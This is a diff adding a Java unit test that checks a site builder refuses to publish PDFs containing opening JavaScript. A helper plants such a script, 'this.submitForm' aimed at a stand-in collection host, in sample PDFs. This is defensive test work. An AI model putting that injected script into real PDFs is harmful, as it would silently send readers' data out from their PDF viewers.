@@ -51,6 +51,41 @@ class PageDocumentsTest {
     }
 
     @Test
+    void aPdfThatWouldRunAProgramIsNotPublishedNamedOrLoose() throws IOException {
+        // Copied to the site as it was and linked, with only "no web page version" said of it.
+        TextSite s = site("""
+                documents:
+                  - title: Annual report 2025/26
+                    file: annual-report.pdf
+                """);
+        Path named = s.root().resolve("content/about/annual-report.pdf");
+        ExamplePapers.write(named, true, "Annual report", "Annual report", List.of("We did a lot."));
+        withOpeningScript(named);
+        Path loose = s.root().resolve("content/leaflet.pdf");
+        ExamplePapers.write(loose, true, "Leaflet", "Leaflet", List.of("Come along."));
+        withOpeningScript(loose);
+        s.build(dir.resolve("out"), NOW).failedWith(
+                "content/about/annual-report.md:7:11: error: the PDF content/about/annual-report.pdf contains JavaScript, which PDF "
+                        + "readers run. Published on the site, it would act in readers' PDF viewers in the organisation's name, so "
+                        + "the portal does not publish it.",
+                "Fix: Make the PDF again from the document it came from (in Word: File, Save as, PDF), or print it to a PDF");
+        // Once the named one is made again, the loose one is checked too (loose files are looked at when every page reads).
+        ExamplePapers.write(named, true, "Annual report", "Annual report", List.of("We did a lot."));
+        s.build(dir.resolve("out"), NOW).failedWith("content/leaflet.pdf: error: the PDF content/leaflet.pdf contains JavaScript");
+        ExamplePapers.write(loose, true, "Leaflet", "Leaflet", List.of("Come along."));
+        s.build(dir.resolve("out"), NOW).succeeded();
+    }
+
+    /** Adds a script run on opening, as a hostile or careless maker would. */
+    private static void withOpeningScript(Path pdf) throws IOException {
+        try (org.apache.pdfbox.pdmodel.PDDocument doc = org.apache.pdfbox.Loader.loadPDF(java.nio.file.Files.readAllBytes(pdf))) {
+            doc.getDocumentCatalog().setOpenAction(new org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript(
+                    "this.submitForm('https://collect.example/')"));
+            doc.save(pdf.toFile());
+        }
+    }
+
+    @Test
     void aPagesDocumentsSayTheirTypeSizeAndPagesAndAnUntaggedPdfIsFlagged() throws IOException {
         TextSite s = site("""
                 documents:
